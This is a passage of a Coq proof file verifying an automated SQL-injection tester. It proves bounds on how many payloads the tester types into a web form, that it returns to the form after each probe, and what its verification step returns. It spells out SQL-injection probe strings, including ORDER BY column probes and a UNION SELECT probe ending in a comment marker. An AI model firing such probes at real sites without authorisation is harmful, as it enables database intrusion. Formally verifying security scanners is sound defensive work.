  unfold bind at 1 in H.
  destruct (keeps_log_boolean_pairs p.(selector) boolean_based s1) as [D2 C2].
  fold (_test_boolean_injection page p.(selector) original) in D2, C2.
  destruct (_test_boolean_injection page (selector p) original s1)
    as [[bool_results|e] s2]; [|discriminate].
  cbn [snd] in D2, C2.
  destruct (vulnerable bool_results).
  { unfold bind, record_test_result, ret in H. injection H as <- <- <-.
    eexists. eexists. split; [reflexivity|]. cbn [test_details column_count].
    split; [rewrite D2, D1, D0, <- List.app_assoc; reflexivity|].
    split; [reflexivity|]. left. split; [reflexivity | congruence]. }
  unfold bind at 1 in H.
  destruct (keeps_log_error_payloads p.(selector) error_based s2) as [D3 C3].
  fold (_test_error_injection page p.(selector) original) in D3, C3.
  destruct (_test_error_injection page (selector p) original s2)
    as [[error_results|e] s3]; [|discriminate].
  cbn [snd] in D3, C3.
  destruct (vulnerable error_results).
  { unfold bind, record_test_result, ret in H. injection H as <- <- <-.
    eexists. eexists. split; [reflexivity|]. cbn [test_details column_count].
    split; [rewrite D3, D2, D1, D0, <- List.app_assoc; reflexivity|].
    split; [reflexivity|]. right. left. split; [reflexivity | congruence]. }
  unfold bind at 1 in H.
  destruct (keeps_log_union p.(selector) original s3) as [D4 C4].
  pose proof (@union_result_range p.(selector) original s3) as Hrange.
  destruct (_test_union_injection page (selector p) original s3)
    as [[union_results|e] s4]; [|discriminate].
  cbn [snd] in D4, C4. specialize (Hrange union_results s4 eq_refl).
  cbv beta in Hrange.
  destruct (vulnerable union_results).
  { unfold bind, record_test_result, set_column_count, ret in H.
    injection H as <- <- <-.
    eexists. eexists. split; [reflexivity|]. cbn [test_details column_count].
    split; [rewrite D4, D3, D2, D1, D0, <- List.app_assoc; reflexivity|].
    split; [reflexivity|]. right. right. split; [reflexivity | apply Hrange]. }
  unfold ret in H. injection H as <- <- <-.
  split; [reflexivity|]. split; congruence.
Qed.

(** A step that types at most [n] payloads, each of which satisfies
    [P]. *)
Definition sends {A : Type} (n : nat) (P : string -> Prop) (m : step A) : Prop :=
  forall s, exists typed,
    probes (snd (m s)) = (probes s ++ typed)%list /\
    (List.length typed <= n)%nat /\
    List.Forall P typed.

Lemma sends_bind {A B : Type} (n1 n2 : nat) (P : string -> Prop) (m : step A)
    (k : A -> step B) :
  sends n1 P m -> (forall x, sends n2 P (k x)) -> sends (n1 + n2) P (bind m k).
Proof.
  intros Hm Hk s. unfold bind. destruct (Hm s) as (t1 & E1 & L1 & F1).
  destruct (m s) as [[x|e] s1]; cbn [snd] in *.
  - destruct (Hk x s1) as (t2 & E2 & L2 & F2).
    exists (t1 ++ t2)%list. split; [|split].
    + rewrite E2, E1, List.app_assoc. reflexivity.
    + rewrite List.length_app. lia.
    + apply List.Forall_app. split; assumption.
  - exists t1. split; [exact E1 | split; [lia | exact F1]].
Qed.

Lemma sends_more {A : Type} (n n' : nat) (P : string -> Prop) (m : step A) :
  (n <= n')%nat -> sends n P m -> sends n' P m.
Proof.
  intros Hn Hm s. destruct (Hm s) as (typed & E & L & F).
  exists typed. split; [exact E | split; [lia | exact F]].
Qed.

Lemma sends_nothing {A : Type} (P : string -> Prop) (m : step A) :
  (forall s, calls (snd (m s)) = calls s) -> sends 0 P m.
Proof.
  intros H s. exists []. split; [|split; [simpl; lia | constructor]].
  unfold probes. rewrite H, List.app_nil_r. reflexivity.
Qed.

Lemma sends_ret {A : Type} (P : string -> Prop) (x : A) :
  sends 0 P (ret (W := W) x).
Proof. apply sends_nothing. reflexivity. Qed.

Lemma sends_pause (P : string -> Prop) : sends 0 P (pause page).
Proof. apply sends_nothing. reflexivity. Qed.

Lemma sends_record (P : string -> Prop) (d : detail) :
  sends 0 P (record_test_result (W := W) d).
Proof. apply sends_nothing. reflexivity. Qed.

Lemma sends_set_column_count (P : string -> Prop) (n : Z) :
  sends 0 P (set_column_count (W := W) n).
Proof. apply sends_nothing. reflexivity. Qed.

(** A call of the page other than typing a payload. *)
Definition types_nothing (c : call) : Prop :=
  match c with
  | Fill _ value => value = EmptyString
  | _ => True
  end.

Lemma sends_perform_other {A : Type} (P : string -> Prop) (c : call)
    (f : W -> outcome A * W) :
  types_nothing c -> sends 0 P (perform c f).
Proof.
  intros Hc s. rewrite probes_perform. exists []. split; [|split; [simpl; lia | constructor]].
  destruct c; try reflexivity. simpl in Hc. rewrite Hc. reflexivity.
Qed.

Lemma sends_fill {A : Type} (P : string -> Prop) (sel value : string)
    (f : W -> outcome A * W) :
  P value -> sends 1 P (perform (Fill sel value) f).
Proof.
  intros Hv s. rewrite probes_perform. eexists. split; [reflexivity|].
  destruct (PyStr.truthy value); split; simpl; try lia; repeat constructor; exact Hv.
Qed.

Lemma sends_submit (P : string -> Prop) (sel value : string) :
  P value -> sends 1 P (_input_and_submit page sel value).
Proof.
  intros Hv.
  assert (H : sends (0 + (1 + (0 + (0 + 0)))) P (submit_body page sel value)).
  { unfold submit_body.
    apply sends_bind; [apply sends_perform_other; reflexivity | intros _].
    apply sends_bind; [apply sends_fill; exact Hv | intros _].
    apply sends_bind; [apply sends_perform_other; exact I | intros form].
    apply sends_bind.
    - destruct form; [apply sends_perform_other; exact I | apply sends_ret].
    - intros [|]; apply sends_perform_other; exact I. }
  intros s. exact (H s).
Qed.

(** One probe: submit, read, and what follows the reading. *)
Lemma sends_probe {A : Type} (n : nat) (P : string -> Prop) (sel value : string)
    (k : string -> step A) :
  P value -> (forall content, sends n P (k content)) ->
  sends (S n) P
    (bind (_input_and_submit page sel value)
          (fun _ => bind (pause page) (fun _ => bind (get_page_text page) k))).
Proof.
  intros Hv Hk.
  change (S n) with (1 + (0 + (0 + n)))%nat.
  apply sends_bind; [apply sends_submit, Hv | intros _].
  apply sends_bind; [apply sends_pause | intros _].
  apply sends_bind; [apply sends_perform_other; exact I | exact Hk].
Qed.

Lemma sends_back_pause {A : Type} (n : nat) (P : string -> Prop) (m : step A) :
  sends n P m ->
  sends n P (bind (back page) (fun _ => bind (pause page) (fun _ => m))).
Proof.
  intros Hm. change n with (0 + (0 + n))%nat.
  apply sends_bind; [apply sends_perform_other; exact I | intros _].
  apply sends_bind; [apply sends_pause | intros _]. exact Hm.
Qed.

Lemma sends_response_to (P : string -> Prop) (sel value : string) :
  P value -> sends 1 P (response_to page sel value).
Proof.
  intros Hv. unfold response_to. apply sends_probe; [exact Hv | intros content].
  apply sends_back_pause, sends_ret.
Qed.

Lemma sends_boolean_pairs (P : string -> Prop) (sel : string) (payloads : list string) :
  List.Forall P payloads ->
  sends (List.length payloads) P (boolean_pairs page sel payloads).
Proof.
  revert payloads.
  fix IH 1. intros [|t [|f rest]] Hall; cbn [boolean_pairs].
  - apply sends_ret.
  - eapply sends_more; [|apply sends_ret]. simpl. lia.
  - inversion Hall as [|? ? Ht Hall1]; subst.
    inversion Hall1 as [|? ? Hf Hrest]; subst.
    change (List.length (t :: f :: rest)) with (1 + (1 + List.length rest))%nat.
    apply sends_bind; [apply sends_response_to, Ht | intros tc].
    apply sends_bind; [apply sends_response_to, Hf | intros fc].
    destruct (_ && _)%bool.
    + eapply sends_more; [|apply sends_ret]. lia.
    + apply IH, Hrest.
Qed.

Lemma sends_error_payloads (P : string -> Prop) (sel : string) (payloads : list string) :
  List.Forall P payloads ->
  sends (List.length payloads) P (error_payloads page sel payloads).
Proof.
  induction 1 as [|v rest Hv _ IH]; cbn [error_payloads].
  - apply sends_ret.
  - change (List.length (v :: rest)) with (S (List.length rest)).
    apply sends_probe; [exact Hv | intros content]. cbv zeta.
    apply sends_back_pause.
    destruct (List.find _ _).
    + eapply sends_more; [|apply sends_ret]. lia.
    + exact IH.
Qed.

(** The ORDER BY probe for [i] columns with the prefix [base]. *)
Definition order_by_probe (base : string) (i : Z) : string :=
  base ++ " " ++ PyStr.of_Z i ++ "-- ".

(** The UNION probe for [n] columns. *)
Definition union_probe (n : Z) : string :=
  "' UNION SELECT " ++ PyStr.join "," (List.map PyStr.of_Z (one_to n)) ++ "-- ".

Lemma sends_order_by_bases (P : string -> Prop) (sel : string) (i : Z)
    (bases : list string) :
  List.Forall (fun base => P (order_by_probe base i)) bases ->
  sends (List.length bases) P (order_by_bases_loop page sel i bases).
Proof.
  induction 1 as [|base rest Hb _ IH]; cbn [order_by_bases_loop].
  - apply sends_ret.
  - cbv zeta. change (List.length (base :: rest)) with (S (List.length rest)).
    apply sends_probe; [exact Hb | intros content].
    destruct (PyStr.contains_any _ _).
    + eapply sends_more; [|apply sends_ret]. lia.
    + apply sends_back_pause, IH.
Qed.

Lemma sends_order_by_loop (P : string -> Prop) (sel : string) (indices : list Z)
    (count : Z) (probe : string) :
  List.Forall (fun i => List.Forall (fun base => P (order_by_probe base i))
                                    order_by_bases) indices ->
  sends (3 * List.length indices) P (order_by_loop page sel indices count probe).
Proof.
  intros Hall. revert count probe.
  induction Hall as [|i rest Hi _ IH]; intros count probe; cbn [order_by_loop].
  - apply sends_ret.
  - replace (3 * List.length (i :: rest))%nat
      with (List.length order_by_bases + 3 * List.length rest)%nat
      by (simpl; lia).
    apply sends_bind; [apply sends_order_by_bases, Hi | intros found].
    destruct (match found with Some r => r | None => (count, probe) end) as [c v].
    destruct (c >? 0).
    + eapply sends_more; [|apply sends_ret]. lia.
    + apply IH.
Qed.

Lemma sends_bind_yields {A B : Type} (n1 n2 : nat) (P : string -> Prop)
    (Q : A -> Prop) (m : step A) (k : A -> step B) :
  yields Q m -> sends n1 P m -> (forall x, Q x -> sends n2 P (k x)) ->
  sends (n1 + n2) P (bind m k).
Proof.
  intros Hq Hm Hk s. unfold bind. destruct (Hm s) as (t1 & E1 & L1 & F1).
  destruct (m s) as [[x|e] s1] eqn:E; cbn [snd] in *.
  - destruct (Hk x (Hq s x s1 E) s1) as (t2 & E2 & L2 & F2).
    exists (t1 ++ t2)%list. split; [|split].
    + rewrite E2, E1, List.app_assoc. reflexivity.
    + rewrite List.length_app. lia.
    + apply List.Forall_app. split; assumption.
  - exists t1. split; [exact E1 | split; [lia | exact F1]].
Qed.

(** The payloads a test of an input point can type. *)
Definition probe_of_the_test (v : string) : Prop :=
  List.In v boolean_based \/
  List.In v error_based \/
  (exists base i, List.In base order_by_bases /\ 1 <= i <= 10 /\
                  v = order_by_probe base i) \/
  (exists n, 1 <= n <= 9 /\ v = union_probe n).

Lemma sends_union (sel original_content : string) :
  sends 31 probe_of_the_test (_test_union_injection page sel original_content).
Proof.
  unfold _test_union_injection.
  change 31%nat with (3 * List.length (one_to 10) + 1)%nat.
  eapply sends_bind_yields; [apply discover_columns_range | |].
  - unfold discover_columns. apply sends_order_by_loop.
    change (one_to 10) with [1; 2; 3; 4; 5; 6; 7; 8; 9; 10].
    apply List.Forall_forall. intros i Hi.
    apply List.Forall_forall. intros base Hb.
    right. right. left. exists base, i.
    split; [exact Hb | split; [simpl in Hi; lia | reflexivity]].
  - intros discovered Hd. cbv beta in Hd. cbv zeta.
    destruct (Z.gtb_spec (fst discovered) 0).
    + apply sends_probe.
      * right. right. right. exists (fst discovered). split; [lia | reflexivity].
      * intros content. apply sends_back_pause.
        destruct (reflected _ _ _); apply sends_ret.
    + eapply sends_more; [|apply sends_ret]. lia.
Qed.

(** X11.  Whatever the page answers, and also when a call of the page
    raises, the test of one input point types 41 payloads at most: the four
    of the boolean test, the six of the error test, the ORDER BY probes for
    1 to 10 columns with each of the three prefixes, and one UNION probe
    for 1 to 9 columns. *)
Theorem input_point_probe_budget (p : input_point) (idx : Z) (s : state) :
  exists typed,
    probes (snd (_test_input_point page p idx s)) = (probes s ++ typed)%list /\
    (List.length typed <= 41)%nat /\
    List.Forall (fun v =>
                   List.In v boolean_based \/
                   List.In v error_based \/
                   (exists base i, List.In base order_by_bases /\ 1 <= i <= 10 /\
                                   v = base ++ " " ++ PyStr.of_Z i ++ "-- ") \/
                   (exists n, 1 <= n <= 9 /\
                              v = "' UNION SELECT "
                                  ++ PyStr.join "," (List.map PyStr.of_Z (one_to n))
                                  ++ "-- "))
                typed.
Proof.
  assert (H : sends (0 + (0 + (4 + (6 + (31 + 0))))) probe_of_the_test
                    (_test_input_point page p idx)).
  { unfold _test_input_point. cbv zeta.
    apply sends_bind; [apply sends_record | intros _].
    apply sends_bind; [apply sends_perform_other; exact I | intros original].
    apply sends_bind.
    { apply (@sends_boolean_pairs probe_of_the_test (selector p) boolean_based).
      apply List.Forall_forall. intros v Hv. left. exact Hv. }
    intros bool_results. destruct (vulnerable bool_results).
    { eapply sends_more with (n := (0 + 0)%nat); [lia|].
      apply sends_bind; [apply sends_record | intros _]. apply sends_ret. }
    apply sends_bind.
    { apply (@sends_error_payloads probe_of_the_test (selector p) error_based).
      apply List.Forall_forall. intros v Hv. right. left. exact Hv. }
    intros error_results. destruct (vulnerable error_results).
    { eapply sends_more with (n := (0 + 0)%nat); [lia|].
      apply sends_bind; [apply sends_record | intros _]. apply sends_ret. }
    apply sends_bind; [apply sends_union | intros union_results].
    destruct (vulnerable union_results); [|apply sends_ret].
    change 0%nat with (0 + (0 + 0))%nat.
    apply sends_bind; [apply sends_record | intros _].
    apply sends_bind; [apply sends_set_column_count | intros _]. apply sends_ret. }
  destruct (H s) as (typed & E & L & F).
  exists typed. split; [exact E | split; [simpl in L; lia | exact F]].
Qed.

(** *** Reads of the page and returns to the form *)

Definition is_read (c : call) : bool :=
  match c with InnerText => true | _ => false end.

Definition is_back (c : call) : bool :=
  match c with GoBack => true | _ => false end.

(** The reads of the page that no [go_back] has followed yet. *)
Definition unrestored (s : state) : Z :=
  Z.of_nat (List.length (List.filter is_read s.(calls)))
  - Z.of_nat (List.length (List.filter is_back s.(calls))).

(** What a call adds to the reads left unrestored. *)
Definition call_drift (c : call) : Z :=
  match c with InnerText => 1 | GoBack => -1 | _ => 0 end.

Lemma unrestored_perform {A : Type} (c : call) (f : W -> outcome A * W) (s : state) :
  unrestored (snd (perform c f s)) = unrestored s + call_drift c.
Proof.
  unfold perform, unrestored. destruct (f (world s)) as [r w]. cbn [snd calls].
  rewrite !List.filter_app, !List.length_app.
  destruct c; simpl; lia.
Qed.

(** A step that adds [d] to the unrestored reads when it returns [r], and
    [0] at least when it raises. *)
Definition drifts {A : Type} (d : A -> Z) (m : step A) : Prop :=
  forall s r s', m s = (Returns r, s') -> unrestored s' = unrestored s + d r.

Lemma drifts_bind {A B : Type} (d1 : A -> Z) (d : B -> Z) (m : step A)
    (k : A -> step B) :
  drifts d1 m -> (forall x, drifts (fun r => d r - d1 x) (k x)) ->
  drifts d (bind m k).
Proof.
  intros Hm Hk s r s' H. unfold bind in H.
  destruct (m s) as [[x|e] s1] eqn:E; [|discriminate].
  rewrite (Hk x s1 r s' H), (Hm s x s1 E). lia.
Qed.

Lemma drifts_ret {A : Type} (d : A -> Z) (x : A) :
  d x = 0 -> drifts d (ret (W := W) x).
Proof. intros Hd s r s' E. injection E as <- <-. lia. Qed.

Lemma drifts_perform {A : Type} (c : call) (f : W -> outcome A * W) :
  drifts (fun _ => call_drift c) (perform c f).
Proof.
  intros s r s' E. pose proof (unrestored_perform c f s) as H.
  rewrite E in H. exact H.
Qed.

Lemma drifts_pause : drifts (fun _ => 0) (pause page).
Proof. intros s r s' E. injection E as _ <-. unfold unrestored. simpl. lia. Qed.

(** Submitting a value reads nothing and goes back nowhere, also when a
    call of the page raises. *)
Definition neutral {A : Type} (m : step A) : Prop :=
  forall s, unrestored (snd (m s)) = unrestored s.

Lemma neutral_bind {A B : Type} (m : step A) (k : A -> step B) :
  neutral m -> (forall x, neutral (k x)) -> neutral (bind m k).
Proof.
  intros Hm Hk s. unfold bind. pose proof (Hm s) as E.
  destruct (m s) as [[x|e] s1]; cbn [snd] in *; [rewrite Hk|]; exact E.
Qed.

Lemma neutral_perform {A : Type} (c : call) (f : W -> outcome A * W) :
  call_drift c = 0 -> neutral (perform c f).
Proof. intros Hc s. rewrite unrestored_perform, Hc. lia. Qed.

Lemma drifts_submit (sel value : string) :
  drifts (fun _ => 0) (_input_and_submit page sel value).
Proof.
  assert (H : neutral (submit_body page sel value)).
  { unfold submit_body.
    apply neutral_bind; [apply neutral_perform; reflexivity | intros _].
    apply neutral_bind; [apply neutral_perform; reflexivity | intros _].
    apply neutral_bind; [apply neutral_perform; reflexivity | intros form].
    apply neutral_bind.
    - destruct form; [apply neutral_perform; reflexivity|].
      intros s. reflexivity.
    - intros [|]; apply neutral_perform; reflexivity. }
  intros s r s' E. unfold _input_and_submit in E. injection E as _ <-.
  rewrite H. lia.
Qed.

(** One probe and the return to the form: submit, wait, read, and after
    the reading go back and wait. *)
Lemma drifts_probe_and_back {A : Type} (d : A -> Z) (sel value : string)
    (k : string -> step A) :
  (forall content, drifts d (k content)) ->
  drifts d
    (bind (_input_and_submit page sel value)
          (fun _ => bind (pause page)
                      (fun _ => bind (get_page_text page)
                                  (fun content =>
                                     bind (back page)
                                          (fun _ => bind (pause page)
                                                      (fun _ => k content)))))).
Proof.
  intros Hk.
  eapply drifts_bind; [apply drifts_submit | intros ?; cbv beta].
  eapply drifts_bind; [apply drifts_pause | intros ?; cbv beta].
  eapply drifts_bind; [apply drifts_perform | intros content; cbv beta].
  eapply drifts_bind; [apply drifts_perform | intros ?; cbv beta].
  eapply drifts_bind; [apply drifts_pause | intros ?; cbv beta].
  intros s r s' E. rewrite (Hk content s r s' E). simpl. lia.
Qed.

Lemma drifts_response_to (sel value : string) :
  drifts (fun _ => 0) (response_to page sel value).
Proof.
  unfold response_to. apply drifts_probe_and_back.
  intros content. apply drifts_ret. reflexivity.
Qed.

Lemma drifts_boolean_pairs (sel : string) (payloads : list string) :
  drifts (fun _ => 0) (boolean_pairs page sel payloads).
Proof.
  revert payloads.
  fix IH 1. intros [|t [|f rest]]; cbn [boolean_pairs].
  - apply drifts_ret. reflexivity.
  - apply drifts_ret. reflexivity.
  - eapply drifts_bind; [apply drifts_response_to | intros tc; cbv beta].
    eapply drifts_bind; [apply drifts_response_to | intros fc; cbv beta].
    destruct (_ && _)%bool; [apply drifts_ret; reflexivity|].
    intros s r s' E. rewrite (IH rest s r s' E). lia.
Qed.

Lemma drifts_error_payloads (sel : string) (payloads : list string) :
  drifts (fun _ => 0) (error_payloads page sel payloads).
Proof.
  induction payloads as [|v rest IH]; cbn [error_payloads].
  - apply drifts_ret. reflexivity.
  - cbv zeta. apply drifts_probe_and_back. intros content.
    destruct (List.find _ _); [apply drifts_ret; reflexivity | exact IH].
Qed.

(** X12.  When the boolean test or the error test returns, every read of
    a response was followed by a [go_back]: the tests leave as many reads
    unrestored as they found. *)
Theorem tests_restore_the_page (sel original_content : string) (error_test : bool)
    (s s' : state) (r : results) :
  (if error_test then _test_error_injection page sel original_content
   else _test_boolean_injection page sel original_content) s = (Returns r, s') ->
  Z.of_nat (List.length (List.filter is_read s'.(calls)))
  - Z.of_nat (List.length (List.filter is_read s.(calls)))
  = Z.of_nat (List.length (List.filter is_back s'.(calls)))
    - Z.of_nat (List.length (List.filter is_back s.(calls))).
Proof.
  intros H.
  assert (E : unrestored s' = unrestored s + 0).
  { destruct error_test.
    - apply (@drifts_error_payloads sel error_based s r s' H).
    - apply (@drifts_boolean_pairs sel boolean_based s r s' H). }
  unfold unrestored in E. lia.
Qed.

(** *** The state in which a step returns *)

(** From a state that satisfies [P], when the step returns [r] in the
    state [s'], [Q r s'] holds. *)
Definition triple {A : Type} (P : state -> Prop) (m : step A)
    (Q : A -> state -> Prop) : Prop :=
  forall s r s', P s -> m s = (Returns r, s') -> Q r s'.

Lemma triple_bind {A B : Type} (P : state -> Prop) (R : A -> state -> Prop)
    (Q : B -> state -> Prop) (m : step A) (k : A -> step B) :
  triple P m R -> (forall x, triple (R x) (k x) Q) -> triple P (bind m k) Q.
Proof.
  intros Hm Hk s r s' Hp H. unfold bind in H.
  destruct (m s) as [[x|e] s1] eqn:E; [|discriminate].
  eapply Hk; [eapply Hm; [exact Hp | exact E] | exact H].
Qed.

Lemma triple_then {A B : Type} (P : state -> Prop) (Q : B -> state -> Prop)
    (m : step A) (k : A -> step B) :
  (forall x, triple (fun _ => True) (k x) Q) -> triple P (bind m k) Q.
Proof.
  intros Hk. apply (@triple_bind _ _ P (fun _ _ => True) Q); [|exact Hk].
  intros s r s' _ _. exact I.
Qed.

Lemma triple_ret {A : Type} (P : state -> Prop) (Q : A -> state -> Prop) (x : A) :
  (forall s, P s -> Q x s) -> triple P (ret (W := W) x) Q.
Proof. intros H s r s' Hp E. injection E as <- <-. apply H, Hp. Qed.

Lemma triple_pre {A : Type} (P P' : state -> Prop) (m : step A)
    (Q : A -> state -> Prop) :
  (forall s, P' s -> P s) -> triple P m Q -> triple P' m Q.
Proof. intros Hp Hm s r s' Hs E. eapply Hm; [apply Hp, Hs | exact E]. Qed.

Lemma triple_post {A : Type} (P : state -> Prop) (m : step A)
    (Q Q' : A -> state -> Prop) :
  (forall r s, Q r s -> Q' r s) -> triple P m Q -> triple P m Q'.
Proof. intros Hq Hm s r s' Hs E. apply Hq. eapply Hm; [exact Hs | exact E]. Qed.

(** The last call of the page was the reading of its text. *)
Definition ends_reading (s : state) : Prop :=
  exists before, s.(calls) = (before ++ [InnerText])%list.

Lemma triple_read (P : state -> Prop) :
  triple P (get_page_text page) (fun _ s' => ends_reading s').
Proof.
  intros s r s' _ E. unfold get_page_text, perform in E.
  destruct (inner_text page (world s)) as [o w]. injection E as _ <-.
  exists (calls s). reflexivity.
Qed.

(** The probe that finds the count for [i], and the state it leaves. *)
Definition found_by (bases : list string) (i : Z) (found : option (Z * string))
    (s' : state) : Prop :=
  match found with
  | Some r => ends_reading s' /\ fst r = i - 1 /\
              exists base, List.In base bases /\ snd r = order_by_probe base i
  | None => True
  end.

Lemma order_by_bases_found (sel : string) (i : Z) (bases : list string) :
  triple (fun _ => True) (order_by_bases_loop page sel i bases) (found_by bases i).
Proof.
  induction bases as [|base rest IH]; cbn [order_by_bases_loop].
  - apply triple_ret. intros s _. exact I.
  - cbv zeta. apply triple_then. intros _. apply triple_then. intros _.
    eapply triple_bind; [apply triple_read | intros content; cbv beta].
    destruct (PyStr.contains_any _ _).
    + apply triple_ret. intros s Hs. split; [exact Hs|]. split; [reflexivity|].
      exists base. split; [left; reflexivity | reflexivity].
    + apply triple_then. intros _. apply triple_then. intros _.
      eapply triple_post; [|exact IH].
      intros [r|] s; [|auto]. intros (A & B & base' & Hin & C).
      split; [exact A|]. split; [exact B|]. exists base'. split; [right; exact Hin | exact C].
Qed.

(** A count reported by the discovery, and the state it is reported in. *)
Definition discovered_in (r : Z * string) (s' : state) : Prop :=
  0 < fst r ->
  ends_reading s' /\
  exists base, List.In base order_by_bases /\ snd r = order_by_probe base (fst r + 1).

Lemma order_by_loop_found (sel : string) (indices : list Z) (count : Z)
    (probe : string) :
  count <= 0 ->
  triple (fun _ => True) (order_by_loop page sel indices count probe) discovered_in.
Proof.
  revert count probe.
  induction indices as [|i rest IH]; intros count probe Hc; cbn [order_by_loop].
  - apply triple_ret. intros s _ Hpos. cbn [fst] in Hpos. lia.
  - eapply triple_bind; [apply order_by_bases_found | intros found; cbv beta].
    destruct found as [[c v]|].
    + destruct (Z.gtb_spec c 0).
      * apply triple_ret. intros s (A & B & base & Hin & C) _.
        cbn [fst snd] in *. split; [exact A|]. exists base. split; [exact Hin|].
        rewrite C. f_equal. lia.
      * eapply triple_pre; [|apply IH; lia]. intros s _. exact I.
    + destruct (Z.gtb_spec count 0); [lia|].
      eapply triple_pre; [|apply IH; lia]. intros s _. exact I.
Qed.

(** X13.  When the column discovery reports a count, the last call of the
    page was the reading of the response to the ORDER BY probe for one
    column more, which is the probe it reports: no [go_back] follows that
    response, and the UNION probe is typed into the page that shows it. *)
Theorem discovery_leaves_the_error_page (sel : string) (s s' : state)
    (count : Z) (probe : string) :
  discover_columns page sel s = (Returns (count, probe), s') ->
  0 < count ->
  (exists before, s'.(calls) = (before ++ [InnerText])%list) /\
  exists base, List.In base order_by_bases /\
               probe = base ++ " " ++ PyStr.of_Z (count + 1) ++ "-- ".
Proof.
  intros H Hpos.
  apply (@order_by_loop_found sel (one_to 10) 0 EmptyString (Z.le_refl 0)
           s (count, probe) s' I H Hpos).
Qed.

Lemma triple_perform_last {A : Type} (P : state -> Prop) (c : call)
    (f : W -> outcome A * W) :
  triple P (perform c f) (fun _ s' => exists before, s'.(calls) = (before ++ [c])%list).
Proof.
  intros s r s' _ E. unfold perform in E.
  destruct (f (world s)) as [o w]. injection E as _ <-.
  exists (calls s). reflexivity.
Qed.

Lemma triple_pause (P : state -> Prop) :
  (forall s w, P s -> P {| world := w; test_details := s.(test_details);
                          column_count := s.(column_count); calls := s.(calls) |}) ->
  triple P (pause page) (fun _ s' => P s').
Proof. intros H s r s' Hp E. injection E as _ <-. apply H, Hp. Qed.

(** X14.  When [verify_vulnerability] returns, its result carries the
    payload it was given, it is marked vulnerable exactly when it carries
    details, the payload is all that was typed into the page (once at
    most), the last call of the page is [go_back], and neither the log of
    the test nor the column count was written. *)
Theorem verify_vulnerability_outcome (input_selector value : string)
    (s s' : state) (r : results) :
  verify_vulnerability page input_selector value s = (Returns r, s') ->
  r.(payload) = value /\
  (r.(vulnerable) = true <-> r.(details) <> EmptyString) /\
  (exists before, s'.(calls) = (before ++ [GoBack])%list) /\
  (probes s' = probes s \/ probes s' = (probes s ++ [value])%list) /\
  s'.(test_details) = s.(test_details) /\ s'.(column_count) = s.(column_count).
Proof.
  intros H.
  assert (Hq : triple (fun _ => True) (verify_vulnerability page input_selector value)
                 (fun r s' => r.(payload) = value /\
                              (r.(vulnerable) = true <-> r.(details) <> EmptyString) /\
                              exists before, s'.(calls) = (before ++ [GoBack])%list)).
  { unfold verify_vulnerability.
    apply triple_then. intros original. apply triple_then. intros _.
    apply triple_then. intros _. apply triple_then. intros injected. cbv zeta.
    eapply triple_bind; [apply triple_perform_last | intros ?; cbv beta].
    eapply triple_bind;
      [apply (@triple_pause (fun s => exists before, calls s = (before ++ [GoBack])%list));
       intros s0 w Hs0; exact Hs0 | intros ?; cbv beta].
    apply triple_ret. intros s0 Hs0.
    destruct (PyStr.contains_any _ _); destruct (PyStr.contains "union select" _);
      try destruct (echoed_position _ _);
      (split; [reflexivity | split; [|exact Hs0]]);
      cbn [vulnerable details]; split; intros E; try reflexivity; try discriminate;
      try (exfalso; apply E; reflexivity). }
  destruct (Hq s r s' I H) as (A & B & C).
  split; [exact A|]. split; [exact B|]. split; [exact C|].
  assert (Hs : sends (0 + (1 + (0 + (0 + (0 + (0 + 0)))))) (fun v => v = value)
                     (verify_vulnerability page input_selector value)).
  { unfold verify_vulnerability.
    apply sends_bind; [apply sends_perform_other; exact I | intros original].
    apply sends_bind; [apply sends_submit; reflexivity | intros _].
    apply sends_bind; [apply sends_pause | intros _].
    apply sends_bind; [apply sends_perform_other; exact I | intros injected].
    cbv zeta.
    apply sends_bind; [apply sends_perform_other; exact I | intros _].
    apply sends_bind; [apply sends_pause | intros _].
    apply sends_ret. }
  assert (Hk : keeps_log (verify_vulnerability page input_selector value)).
  { unfold verify_vulnerability.
    apply keeps_log_bind; [apply keeps_log_perform | intros original].
    apply keeps_log_bind; [apply keeps_log_submit | intros _].
    apply keeps_log_bind; [apply keeps_log_pause | intros _].
    apply keeps_log_bind; [apply keeps_log_perform | intros injected].
    cbv zeta.
    apply keeps_log_bind; [apply keeps_log_perform | intros _].
    apply keeps_log_bind; [apply keeps_log_pause | intros _].
    apply keeps_log_ret. }
  destruct (Hs s) as (typed & E & L & F). destruct (Hk s) as [K1 K2].
  rewrite H in E, K1, K2. cbn [snd] in E, K1, K2.
  split; [|split; assumption].
  destruct typed as [|v [|v' rest]]; [left | right | simpl in L; lia].
  - rewrite E, List.app_nil_r. reflexivity.
  - inversion F as [|? ? Hv _]; subst. exact E.
Qed.

(** *** The calls of the page a step makes *)





















End TesterOutcomes.

(** On the search form that satisfies both oracles the test returns
    [True] with the boolean tag, the announcement and one warning. *)
Lemma input_point_verdict_and_marking_witness :
  let p := ScriptedPage.text_input "q" in
  let done := SQLInjectionTester._test_input_point Scenarios.leaky_page p 0
                Scenarios.fresh_tester in
  exists d,
    (snd done).(SQLInjectionTester.test_details)
    = [SQLInjectionTester.announcement p 0; d] /\
    d.(SQLInjectionTester.status) = "warning".
Proof.
  intros p done.
  destruct (@input_point_verdict_and_marking _ Scenarios.leaky_page p 0
              Scenarios.fresh_tester (snd done) true
              (SQLInjectionTester.mark_vulnerable ["sql_injection_boolean"] p))
    as (types & d & _ & Hlog & Hstatus & _).
  - vm_compute. reflexivity.
  - exists d. split; [exact Hlog | exact Hstatus].
Defined.

(** The error test on the search form: one payload, one read, one
    return. *)
Lemma tests_restore_the_page_witness :
  let done := SQLInjectionTester._test_error_injection Scenarios.leaky_page
                "[name='q']" "Search" Scenarios.fresh_tester in
  List.length (List.filter is_back (snd done).(SQLInjectionTester.calls)) = 1%nat.
Proof.
  intros done.
  pose proof (@tests_restore_the_page _ Scenarios.leaky_page "[name='q']" "Search"
                true Scenarios.fresh_tester (snd done)
                {| SQLInjectionTester.vulnerable := true;
                   SQLInjectionTester.details :=
                     "错误型测试成功 - 载荷(')触发了SQL错误：sql syntax";
                   SQLInjectionTester.payload := "'";
                   SQLInjectionTester.columns := 0 |}) as H.
  assert (Hreads : List.length (List.filter is_read (snd done).(SQLInjectionTester.calls))
                   = 1%nat) by (vm_compute; reflexivity).
  rewrite Hreads in H. cbn [Scenarios.fresh_tester SQLInjectionTester.start
    SQLInjectionTester.calls List.filter List.length] in H.
  assert (Hrun : (if true
                  then SQLInjectionTester._test_error_injection Scenarios.leaky_page
                         "[name='q']" "Search"
                  else SQLInjectionTester._test_boolean_injection Scenarios.leaky_page
                         "[name='q']" "Search") Scenarios.fresh_tester
                 = (Returns
